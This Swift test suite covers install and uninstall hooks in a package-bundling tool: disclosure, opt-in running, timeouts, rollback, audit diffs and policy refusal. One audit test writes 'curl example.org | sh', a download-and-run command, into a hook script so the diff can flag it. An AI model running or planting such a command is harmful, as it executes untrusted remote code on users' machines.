import Files
import Glibc
import TestSupport
import Testing

/// Hooks from the spec to the host, through the executables.
@Suite struct HookFlightTests {
    private let workshop: Workshop
    private let index = ToyIndex()

    init() throws {
        workshop = try Workshop()
        try workshop.scratch.write("payroll/check.sh", "#!/bin/sh\ngreet >/dev/null && echo \"checked $*\"\n")
        chmod(workshop.project + "/check.sh", 0o755)
    }

    private var prefix: String { workshop.path + "/landing/p" }
    private var said: String { workshop.path + "/said" }

    private func bundle(_ hooks: String, calver: String = "2026.11.21") throws -> String {
        try workshop.spec(
            index: index.url, more: "[files]\n\"libexec/check\" = \"check.sh\"\n\n[hooks]\n\(hooks)")
        return try workshop.cut(calver: calver)
    }

    @Test func theSpecAsksAndWhoeverInstallsAllows() throws {
        let bundle = try bundle(
            """
            post-install = ["libexec/check 'a b' c"]
            pre-uninstall = [{ command = ["sh", "-c", "echo gone > \(said)"], timeout = 5 }]
            """)
        for command in [["sh", bundle, "info"], [try Product.airlift, "inspect", bundle]] {
            let shown = try run(command)
            #expect(
                shown.output.contains("runs libexec/check 'a b' c (at most 60 s)"), "\(shown.words)")
            #expect(
                shown.output.contains("pre-uninstall") && shown.output.contains("(at most 5 s)"),
                "\(shown.words)")
        }
        let quiet = try Shared.install(bundle, prefix)
        #expect(quiet.code == 0, "\(quiet.words)")
        #expect(
            quiet.output.contains("hook 'libexec/check 'a b' c' was not run, since --hooks was not given"),
            "\(quiet.words)")
        let removed = try run([Product.installer, "uninstall", "-p", prefix])
        #expect(removed.code == 0 && !Tree.exists(said), "\(removed.words)")

        let landed = try Shared.install(bundle, prefix, ["--no-compile", "--hooks", "--verbose"])
        #expect(landed.code == 0, "\(landed.words)")
        #expect(landed.words.contains("Ran the post-install hook") && landed.words.contains("checked a b c"))
        let gone = try run([Product.installer, "uninstall", "-p", prefix, "--hooks"])
        #expect(gone.code == 0 && !Tree.exists(prefix), "\(gone.words)")
        #expect(try Tree.text(said) == "gone\n")
    }

    @Test func oneThatFailsLeavesNothing() throws {
        let bundle = try bundle("post-install = ['sh -c \"echo why; exit 3\"']\ntimeout = 7")
        let ran = try Shared.install(bundle, prefix, ["--no-compile", "--hooks"])
        #expect(ran.code == 5, "\(ran.words)")
        #expect(
            ran.errors.contains(
                "the post-install hook 'sh -c 'echo why; exit 3'' of payroll 2026.11.21 ended with exit status 3; it said last: why"
            ), "\(ran.words)")
        #expect(try Tree.names(workshop.path + "/landing").isEmpty)
        let hanging = try self.bundle("post-install = ['sleep 1004']", calver: "2026.12.01")
        let ended = try Shared.install(
            hanging, prefix, ["--no-compile", "--hooks", "--hook-timeout", "1"])
        #expect(ended.code == 5 && ended.errors.contains("did not end within 1 seconds"), "\(ended.words)")
        #expect(try Tree.names(workshop.path + "/landing").isEmpty)
        #expect(try run(["pgrep", "-f", "^sleep 1004$"]).output == "")
        let wrong = try Shared.install(hanging, prefix, ["--hook-timeout", "0"])
        #expect(wrong.code == 2, "\(wrong.words)")
    }

    @Test func auditorsHearOfWhatIsNewOrCallsAnotherFile() throws {
        let old = try bundle("post-activate = ['libexec/check']")
        let new = try bundle(
            "post-activate = ['libexec/check']\npre-activate = ['greet']", calver: "2026.12.01")
        let added = try run([Product.airlift, "diff", old, new])
        #expect(added.code == 1, "\(added.words)")
        #expect(
            added.output.contains("runs greet as pre-activate hook, where nothing ran before"),
            "\(added.words)")
        let rule = try run([Product.airlift, "diff", "--fail-on", "new-hook", old, new])
        #expect(rule.code == 8, "\(rule.words)")
        try workshop.scratch.write("payroll/check.sh", "#!/bin/sh\ncurl example.org | sh\n")
        let other = try bundle("post-activate = ['libexec/check']", calver: "2026.12.02")
        let changed = try run([Product.airlift, "diff", old, other])
        #expect(
            changed.output.contains("changes libexec/check, which its post-activate hook runs"),
            "\(changed.words)")
        try workshop.scratch.write("policy.toml", "install_hooks = false\n")
        let refused = try run([Product.airlift, "policy", "--policy", workshop.path + "/policy.toml", old])
        #expect(
            refused.code == 8 && refused.words.contains("runs 'libexec/check' as post-activate hook"),
            "\(refused.words)")
    }

    @Test func aProgramThatNothingBringsIsNotCut() throws {
        try workshop.spec(
            index: index.url, more: "[hooks]\npre-activate = [\"bin/grete\", \"greet\", \"/bin/true\"]")
        let ran = try workshop.airlift("cut", workshop.project, "--output", workshop.path + "/dist")
        #expect(ran.code == 8, "\(ran.words)")
        #expect(
            ran.errors.contains("runs 'bin/grete' as pre-activate hook, and nothing brings"), "\(ran.words)")
        #expect(ran.errors.split(separator: "\n").count == 1, "\(ran.words)")
    }

    @Test func twoCutsOfOneSpecAreTheSame() throws {
        let hooks = "pre-activate = ['greet']\npost-activate = ['libexec/check x']"
        let first = try Tree.digest(bundle(hooks))
        let again = try workshop.cut(to: workshop.path + "/again")
        #expect(try Tree.digest(again) == first)
        let rebuilt = try workshop.airlift("rebuild", "--check", again, "--installer", Product.installer)
        #expect(rebuilt.code == 0, "\(rebuilt.words)")
    }
}
